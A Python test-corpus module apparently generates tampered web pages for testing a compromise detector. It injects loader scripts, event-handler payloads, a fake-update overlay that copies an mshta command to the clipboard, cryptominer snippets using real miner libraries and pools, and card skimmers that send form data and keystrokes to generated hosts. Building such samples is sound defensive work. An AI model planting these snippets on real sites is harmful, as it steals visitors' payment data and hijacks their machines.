"""Scripts planted: from other hosts, inline, in attributes, inside scripts that were there; and miners, skimmers."""

# ruff: noqa: E501 — markup and scripts read best unbroken

from __future__ import annotations

import base64
from random import Random

from tests.tamper.corpus.attacks.kit import (
    address,
    attack,
    body_place,
    garble,
    host,
    insert,
    loader,
    place,
    quoted,
    script_path,
    tagged,
)
from tests.tamper.corpus.markup import Document, Edit, Element, apply, set_attribute
from tests.tamper.corpus.site import Site, token  # fmt: skip


@attack("external_script", "malicious_script")
def external_script(site: Site, document: Document, rng: Random) -> str | None:
    source = address(rng, site, script_path(rng))
    form = rng.choice(['<script src="{}"></script>', "<script src='{}' async></script>", '<script type="text/javascript" src="{}"></script>',
                       '<script defer src={}></script>', '<script type="module" src="{}"></script>', '<SCRIPT SRC="{}"></SCRIPT>'])  # fmt: skip
    return insert(document, place(document, rng), form.format(source))


@attack("inline_script", "malicious_script")
def inline_script(site: Site, document: Document, rng: Random) -> str | None:
    code = garble(rng, loader(rng, address(rng, site, script_path(rng))))
    return insert(document, place(document, rng), tagged(code, rng))


def _inline(document: Document) -> list[Element]:
    kinds = {"", "text/javascript", "application/javascript", "module"}
    return [
        s for s in document.find("script")
        if "src" not in s.attributes and s.attributes.get("type", "").lower() in kinds and s.inner_end - s.inner > 30
    ]  # fmt: skip


@attack("script_appended", "malicious_script")
def script_appended(site: Site, document: Document, rng: Random) -> str | None:
    """Code before, after or within a script of the page's own."""
    scripts = _inline(document)
    if not scripts:
        return None
    script = rng.choice(scripts)
    code = garble(rng, loader(rng, address(rng, site, script_path(rng)))).replace("</scr", "<\\/scr")
    inner = document.inner(script)
    end = inner.rfind("-->") if "-->" in inner else inner.rfind("//]]>") if "//]]>" in inner else len(inner)
    middle = [n + 2 for n in range(len(inner) - 1) if inner[n : n + 2] == ";\n"]
    cut = rng.choice(
        [end, *middle[: len(middle) // 2 + 1], *([0] if "<!--" not in inner and "CDATA" not in inner else [])]
    )
    spot = script.inner + cut
    return insert(document, spot, f"\n;{code};\n")


@attack("event_handler", "malicious_script")
def event_handler(site: Site, document: Document, rng: Random) -> str | None:
    code = garble(rng, loader(rng, address(rng, site, script_path(rng)))).replace(
        '"', "'" if rng.random() < 0 else "&quot;"
    )
    inserted = rng.choice([
        f'<img src="x" onerror="{code}" style="display:none">', f'<svg onload="{code}"></svg>', f'<svg><animate onbegin="{code}" attributeName="x" dur="1s"></animate></svg>',
        f'<details open ontoggle="{code}"></details>', f'<video><source onerror="{code}"></video>',
        f'<input autofocus onfocus="{code}" style="opacity:0">',
    ])  # fmt: skip
    body = document.first("body")
    if body is not None and rng.random() < 0.35 and "onload" not in body.attributes:
        tag = document.source[body.start : body.inner]
        plain = garble(rng, loader(rng, address(rng, site, script_path(rng))))
        return apply(document.source, [Edit(body.start, body.inner, set_attribute(tag, "onload", plain))])
    return insert(document, body_place(document, rng), inserted)


@attack("handler_on_existing", "malicious_script")
def handler_on_existing(site: Site, document: Document, rng: Random) -> str | None:
    """onclick or a javascript: address on a link or button that was there."""
    targets = [e for e in document.find("a", "button", "img", "input") if "onclick" not in e.attributes]
    if not targets:
        return None
    element = rng.choice(targets)
    code = garble(rng, loader(rng, address(rng, site, script_path(rng))))
    tag = document.source[element.start : element.inner]
    if element.name == "a" and rng.random() < 0.4:
        changed = set_attribute(tag, "href", f"javascript:{code}")
    else:
        changed = set_attribute(
            tag, rng.choice(["onclick", "onmouseover", "onmousedown", "onpointerenter"]), code
        )
    return apply(document.source, [Edit(element.start, element.inner, changed)])


@attack("data_script", "malicious_script")
def data_script(site: Site, document: Document, rng: Random) -> str | None:
    code = loader(rng, address(rng, site, script_path(rng)))
    encoded = base64.b64encode(code.encode()).decode()
    return insert(
        document, place(document, rng), f'<script src="data:text/javascript;base64,{encoded}"></script>'
    )


@attack("service_worker", "malicious_script")
def service_worker(site: Site, document: Document, rng: Random) -> str | None:
    source = (
        address(rng, site, "sw.js").replace("//", "https://", 1)
        if rng.random() < 0
        else address(rng, site, "sw.js")
    )
    code = rng.choice([
        f"navigator.serviceWorker.register('/sw-{token(rng, 6)}.js').then(function(r){{r.active&&r.active.postMessage('{source}')}});",
        f"navigator.serviceWorker.register('/push.js?u={source}');Notification.requestPermission();",
    ])  # fmt: skip
    return insert(document, place(document, rng), tagged(code, rng))


@attack("fake_update", "malicious_script")
def fake_update(site: Site, document: Document, rng: Random) -> str | None:
    """An overlay that tells visitors to run or install something."""
    source = address(rng, site, rng.choice(["update.exe", "Chrome_Update.zip", "verify.hta", "browser.apk"]))
    text = rng.choice(["Your browser is out of date. Update now.", "Verify you are human: press Win+R, paste and press Enter.",
                       "您的浏览器版本过低，请立即升级", "Ваш браузер устарел. Обновите его сейчас."])  # fmt: skip
    html = (
        f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999;text-align:center">'
        f'<h2>{text}</h2><a href="{source}" download>OK</a></div>'
        + tagged(garble(rng, f"navigator.clipboard&&navigator.clipboard.writeText('mshta {source}');"), rng)
    )
    return insert(document, rng.choice([document.body_start, document.body_end]), html)


@attack("miner_script", "miner")
def miner_script(site: Site, document: Document, rng: Random) -> str | None:
    key = token(rng, 32, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789")
    library = rng.choice([
        "https://coinhive.com/lib/coinhive.min.js", "https://authedmine.com/lib/authedmine.min.js", "https://crypto-loot.com/lib/miner.min.js",
        "https://www.hashing.win/46B8.js", "https://cdn.jsdelivr.net/gh/x/deepMiner/deepMiner.min.js", "https://webmine.cz/miner",
        "https://www.hostingcloud.racing/" + token(rng, 4) + ".js", "https://monerominer.rocks/miner-mmr/webmnr.min.js", address(rng, site, "c.js"),
    ])  # fmt: skip
    start = rng.choice([
        f"var miner=new CoinHive.Anonymous('{key}',{{throttle:0.{rng.randrange(1, 9)}}});miner.start();",
        f"var miner=new CryptoLoot.Anonymous('{key}');miner.start();", f"var _client=new Client.Anonymous('{key}',{{throttle:0.3,c:'w'}});_client.start();",
        f"startMining('pool.supportxmr.com:3333','{key}','x',50);", f"deepMiner.Init('{key}').start();",
    ])  # fmt: skip
    html = f'<script src="{library}"></script>' + tagged(garble(rng, start), rng)
    return insert(document, place(document, rng), html)


@attack("miner_inline", "miner")
def miner_inline(site: Site, document: Document, rng: Random) -> str | None:
    pool = host(rng, site)
    code = rng.choice([
        f"var w=new Worker(URL.createObjectURL(new Blob([\"importScripts('https://{pool}/cn.js')\"])));w.postMessage({{threads:navigator.hardwareConcurrency,algo:'cryptonight'}});",
        f"WebAssembly.instantiateStreaming(fetch('https://{pool}/cryptonight.wasm')).then(function(m){{var s=new WebSocket('wss://{pool}/proxy');s.onmessage=function(e){{m.instance.exports.hash(e.data)}}}});",
        f"var ws=new WebSocket('wss://{pool}:8892/');ws.onopen=function(){{ws.send(JSON.stringify({{identifier:'handshake',pool:'moneroocean.stream',login:'{token(rng, 40)}'}}))}};",
    ])  # fmt: skip
    return insert(document, place(document, rng), tagged(garble(rng, code), rng))


@attack("skimmer_script", "skimmer", needs=("checkout",))
def skimmer_script(site: Site, document: Document, rng: Random) -> str | None:
    target = host(rng, site)
    send = rng.choice([
        f"(new Image).src='https://{target}/i.gif?d='+btoa(d)", f"navigator.sendBeacon('https://{target}/c',d)",
        f"fetch('https://{target}/p',{{method:'POST',mode:'no-cors',body:d}})", f"new WebSocket('wss://{target}').onopen=function(){{this.send(d)}}",
        f"$.post('https://{target}/s.php',{{d:d}})",
    ])  # fmt: skip
    code = rng.choice([
        f"document.addEventListener('submit',function(e){{var d=JSON.stringify([].map.call(e.target.elements,function(x){{return[x.name,x.value]}}));{send}}},true);",
        f"setInterval(function(){{var d='';document.querySelectorAll('input,select').forEach(function(x){{d+=x.name+'='+x.value+'&'}});if(/\\d{{13,16}}/.test(d)){{{send}}}}},700);",
        f"document.querySelectorAll('input').forEach(function(x){{x.addEventListener('change',function(){{var d=x.name+':'+x.value;{send}}})}});",
        f"document.onkeypress=function(e){{window.k=(window.k||'')+e.key;var d=window.k;if(d.length>20){{{send};window.k=''}}}};",
    ])  # fmt: skip
    return insert(document, place(document, rng), tagged(garble(rng, code), rng))


@attack("skimmer_overlay", "skimmer", needs=("checkout",))
def skimmer_overlay(site: Site, document: Document, rng: Random) -> str | None:
    target = address(rng, site, rng.choice(["pay", "gateway/form.php", "checkout.html"]))
    html = rng.choice([
        f'<iframe src="{target}" style="position:absolute;top:120px;left:0;width:100%;height:480px;border:0;z-index:9999;background:#fff"></iframe>',
        f'<form action="{target}" method="post" class="payment"><input name="cc_number" placeholder="Card number"><input name="cc_exp"><input name="cvv"><button>Pay</button></form>',
    ])  # fmt: skip
    form = next(iter(document.find("form")), None)
    return insert(document, form.start if form and rng.random() < 0.6 else body_place(document, rng), html)


@attack("skimmer_handler", "skimmer", needs=("checkout",))
def skimmer_handler(site: Site, document: Document, rng: Random) -> str | None:
    inputs = [
        e
        for e in document.find("input", "button", "form")
        if not any(k.startswith("on") for k in e.attributes)
    ]
    if not inputs:
        return None
    element = rng.choice(inputs)
    tag = document.source[element.start : element.inner]
    code = garble(
        rng, f"new Image().src='https://{host(rng, site)}/l?'+this.name+'='+encodeURIComponent(this.value)"
    )
    name = "onsubmit" if element.name == "form" else rng.choice(["onblur", "onchange", "onkeyup", "oninput"])
    return apply(document.source, [Edit(element.start, element.inner, set_attribute(tag, name, code))])


@attack("conditional_comment_script", "malicious_script")
def conditional_comment_script(site: Site, document: Document, rng: Random) -> str | None:
    """A script for old browsers only, inside a conditional comment."""
    source = quoted(address(rng, site, script_path(rng)))
    html = f'<!--[if IE]><script src="{source}"></script><![endif]--><!--[if !IE]><!--><script src="{source}"></script><!--<![endif]-->'
    return insert(document, place(document, rng), html)
